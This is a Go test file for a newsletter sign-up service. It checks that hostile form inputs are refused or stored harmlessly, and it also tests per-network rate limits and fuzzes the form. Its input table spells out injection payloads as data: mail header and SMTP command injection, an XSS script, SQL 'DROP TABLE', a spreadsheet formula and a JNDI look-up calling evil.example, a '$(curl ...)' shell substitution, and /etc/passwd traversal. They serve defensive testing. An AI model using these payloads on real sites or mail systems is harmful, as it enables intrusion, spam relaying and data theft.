package signup_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/netip"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"broadside/campaign"
	"broadside/campaign/signup"
	"broadside/campaign/token"
)

// hostile are forms as robots, spammers and those who try locks fill them in. What is a
// text stays one, whatever it says in other languages than ours.
var hostile = []struct {
	what, email, city, language string
	taken                       bool
}{
	{"an honest form", "ann@example.org", "Ghent", "en-GB,zh;q=0.5", true},
	{"no address", "", "Ghent", "en", false},
	{"further headers", "ann@example.org\r\nBcc: all@example.com", "Ghent", "en", false},
	{"further headers, folded", "ann@example.org\n\tcc: all@example.com", "Ghent", "en", false},
	{"headers in a field", "ann@example.org", "Ghent\r\nBcc: all@example.com\r\n\r\nBuy!", "en", false},
	{"another command", "ann@example.org>\r\nRCPT TO:<all@example.com", "", "en", false},
	{"a second message", "ann@example.org", "Ghent\n.\nMAIL FROM:<x@example.com>", "en", false},
	{"several addresses", "ann@example.org, bob@example.org", "", "en", false},
	{"several addresses, semicolons", "ann@example.org;bob@example.org", "", "en", false},
	{"an address with a name", "Ann <ann@example.org>", "", "en", true}, // without the name
	{"a route", "<@relay.example:ann@example.org>", "", "en", false},
	{"a percent route", "all%example.com@example.org", "", "en", true},
	{"a pipe", "|/bin/sh@example.org", "", "en", true},
	{"a literal network address", "root@[127.0.0.1]", "", "en", false},
	{"no dot", "root@localhost", "", "en", false},
	{"a space", "ann @example.org", "", "en", false},
	{"a zero byte in the address", "ann\x00@example.org", "", "en", false},
	{"a zero byte in a field", "ann@example.org", "Ghent\x00", "en", false},
	{"bytes that are no text", "ann@example.org", "\xff\xfe\xc0\x80", "en", false},
	{"half a letter", "ann@example.org", "\xed\xa0\x80", "en", false},
	{"a long address", strings.Repeat("a", 300) + "@example.org", "", "en", false},
	{"a long domain", "ann@" + strings.Repeat("a.", 200) + "org", "", "en", false},
	{"a long text", "ann@example.org", strings.Repeat("x", 10_000), "en", false},
	{"a pile of accents", "ann@example.org", "G" + strings.Repeat("\u0301", 500), "en", false},
	{"a script", "ann@example.org", `"><script>alert(1)</script>`, "en", true},
	{"a template", "ann@example.org", `{{ link }}{% for x in (1..9999999) %}x{% endfor %}${7*7}#{7*7}`, "en", true},
	{"a query", "ann@example.org", `'); DROP TABLE contacts; --`, "en", true},
	{"an address with a query", `"a' OR '1'='1"@example.org`, "", "en", false},
	{"a formula", "ann@example.org", `=HYPERLINK("https://evil.example/?"&A1,"Ghent")`, "en", true},
	{"a look-up", "ann@example.org", `${jndi:ldap://evil.example/a}`, "en", true},
	{"a command", "ann@example.org", "$(curl evil.example)`id`", "en", true},
	{"a file", "ann@example.org", "../../../../etc/passwd", "en", true},
	{"advertising", "ann@example.org", "You won 1.2 BTC >> https://evil.example/win <<", "en", true},
	{"letters backwards", "ann@example.org", "Ghent\u202e3pm.exe", "en", true},
	{"a line of another kind", "ann@example.org", "Ghent\u2028Antwerp", "en", true},
	{"a terminal's commands", "ann@example.org", "\x1b[2J\x1b]0;owned\x07", "en", false},
	{"JSON", "ann@example.org", `","admin":true,"x":"`, "en", true},
	{"letters that look alike", "аnn@exаmple.org", "", "en", true},
	{"a domain in Punycode that is none", "ann@xn--a.example", "", "en", false},
	{"a language as a header", "ann@example.org", "Ghent", "en\r\nSet-Cookie: a=b", true},
	{"many languages", "ann@example.org", "Ghent", strings.Repeat("xx-YY;q=0.1,", 5000), true},
	{"a language of the file system", "ann@example.org", "Ghent", "../../en", true},
}

// nowhere keeps what it is given last.
type nowhere struct {
	signup.Store
	kept signup.SignUp
}

func (n *nowhere) AddSignUp(_ context.Context, s signup.SignUp, _ signup.Limits) (bool, error) {
	n.kept = s
	return true, nil
}

// fillIn has a form filled in, and returns what is kept, or that it was refused.
func fillIn(t *testing.T, email, city, language string) (kept signup.SignUp, refused bool) {
	t.Helper()
	n := &nowhere{}
	desk := signup.New(n, &campaign.Service{PublicURL: "https://news.example"}, token.NewMaker(make([]byte, 32)), slog.New(slog.DiscardHandler), time.Now)
	err := desk.SignUp(t.Context(), signup.Form{ID: 1, Version: 1, Spec: spec()}, signup.Request{Email: email, Language: language, Values: map[string]string{"city": city, "admin": "true"}})
	if _, refused = errors.AsType[signup.Problems](err); refused {
		return n.kept, true
	}
	if err != nil {
		t.Fatal(err)
	}
	var values map[string]string
	if err := json.Unmarshal(n.kept.Attributes, &values); err != nil || !utf8.ValidString(n.kept.Email) || strings.ContainsAny(n.kept.Email+values["city"], "\x00\r\n") ||
		values["language"] != "en" || values["city"] != strings.TrimSpace(city) || values["admin"] != "" {
		t.Errorf("%+v, %v", n.kept, err)
	}
	return n.kept, false
}

func TestHostileForms(t *testing.T) { // X14
	for _, test := range hostile {
		if kept, refused := fillIn(t, test.email, test.city, test.language); refused == test.taken {
			t.Errorf("%s: refused %v, kept %q", test.what, refused, kept.Email)
		}
	}
}

// Nothing that was filled in stands in the mail: else strangers could have us send their
// words to anybody.
func TestMailSaysNothingOfStrangers(t *testing.T) { // X14
	w := newWorld(t)
	f := w.form()
	r := signup.Request{Email: "ann@example.org", Language: "https://evil.example", Agent: "https://evil.example", Values: map[string]string{"city": "https://evil.example"}}
	if err := w.desk.SignUp(t.Context(), f, r); err != nil {
		t.Fatal(err)
	}
	w.express()
	w.look()
	if len(w.queue.to) != 1 || w.queue.to[0] != "ann@example.org" || strings.Contains(w.queue.says[0], "evil.example") {
		t.Errorf("mailed to %q: %q", w.queue.to, w.queue.says)
	}
}

// A network is what one client has: an IPv4 address, however it is written, and an IPv6
// /64, of which anybody has all the addresses.
func TestSignUpsOfANetwork(t *testing.T) { // X14
	w := newWorld(t)
	f := w.form()
	n := 0
	from := func(ip string) error {
		n++
		r := signup.Request{Email: fmt.Sprintf("p%d@example.org", n), Language: "en", IP: netip.MustParseAddr(ip)}
		return w.desk.SignUp(t.Context(), f, r)
	}
	for i := range 10 {
		if err := from(fmt.Sprintf("2001:db8:1:2:%x::%x", i*4099, i+1)); err != nil {
			t.Fatal(err)
		}
	}
	for ip, many := range map[string]bool{
		"2001:db8:1:2:ffff:ffff:ffff:ffff": true, "2001:db8:1:2::": true, "2001:db8:1:3::": false, "2001:db8:1:1:ffff::": false,
	} {
		if err := from(ip); errors.Is(err, signup.ErrTooMany) != many {
			t.Errorf("%s: %v", ip, err)
		}
	}
	for i := range 10 {
		ip := "192.0.2.7"
		if i%2 > 0 {
			ip = "::ffff:192.0.2.7"
		}
		if err := from(ip); err != nil {
			t.Fatal(err)
		}
	}
	for ip, many := range map[string]bool{"192.0.2.7": true, "::ffff:192.0.2.7": true, "192.0.2.8": false} {
		if err := from(ip); errors.Is(err, signup.ErrTooMany) != many {
			t.Errorf("%s: %v", ip, err)
		}
	}
	w.now = w.now.Add(time.Hour + time.Minute)
	if err := from("2001:db8:1:2::1"); err != nil {
		t.Errorf("an hour later: %v", err)
	}
}

// Whatever strangers send is either refused or kept as text that every database holds.
func FuzzSignUp(f *testing.F) {
	for _, test := range hostile {
		f.Add(test.email, test.city, test.language)
	}
	f.Add("\"a b\"@例え.jp", "\x00\u2028<b>", "*")
	f.Fuzz(func(t *testing.T, email, city, language string) { fillIn(t, email, city, language) })
}
